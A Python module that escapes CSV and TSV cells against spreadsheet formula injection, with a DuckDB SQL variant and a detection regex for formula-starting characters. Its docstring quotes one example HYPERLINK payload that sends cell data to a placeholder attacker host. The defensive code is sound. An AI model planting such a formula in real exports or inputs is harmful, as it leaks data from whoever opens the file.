"""Cells of CSV (and TSV) files made safe to open in a spreadsheet: no formula injection.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or
a line feed as a formula (and some read ``|`` and ``%`` as commands), so a title such as
``=HYPERLINK("http://evil.example/?"&A1)`` taken from an input
would run when an export is opened. As OWASP advises, such a cell is written with a single quote
(``'``) in front: the spreadsheet shows it as text. A cell that is a plain number (``-3``,
``+1.5e3``) is left alone: negative numbers stay numbers.

Every CSV newsgraph writes goes through here: :func:`safe_cell` / :func:`safe_row` for rows
written from Python (the web's downloads), :func:`sql_safe` for DuckDB's ``COPY ... (FORMAT CSV)``
(``newsgraph export --format csv``). Both use the same two patterns."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: A cell a spreadsheet would read as a formula (the pattern is valid in Python and in DuckDB).
FORMULA = r"^[=+\-@\t\r\n|%]"
#: A plain number, which stays as it is although it may start with ``-`` or ``+``.
NUMBER = r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$"
#: What goes in front of a neutralised cell.
PREFIX = "'"

_FORMULA = re.compile(FORMULA)
_NUMBER = re.compile(NUMBER)


def safe_cell(value: Any) -> Any:
    """``value`` with :data:`PREFIX` in front when it is text a spreadsheet would run; anything
    else (numbers, None, dates) as it is.

    >>> safe_cell('=1+1'), safe_cell('-2'), safe_cell('@SUM(A1)'), safe_cell('Paris'), safe_cell(-2)
    ("'=1+1", '-2', "'@SUM(A1)", 'Paris', -2)
    """
    if isinstance(value, str) and _FORMULA.match(value) and not _NUMBER.match(value):
        return PREFIX + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell` (for :func:`csv.writer`'s ``writerow``)."""
    return [safe_cell(v) for v in values]


def sql_safe(expr: str) -> str:
    """A DuckDB SQL expression giving the text ``expr`` as :func:`safe_cell` would."""
    formula, number, prefix = (_sql_string(s) for s in (FORMULA, NUMBER, PREFIX))
    return (
        f"CASE WHEN regexp_matches({expr}, {formula}) AND NOT regexp_matches({expr}, {number}) "
        f"THEN {prefix} || {expr} ELSE {expr} END"
    )


def _sql_string(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"
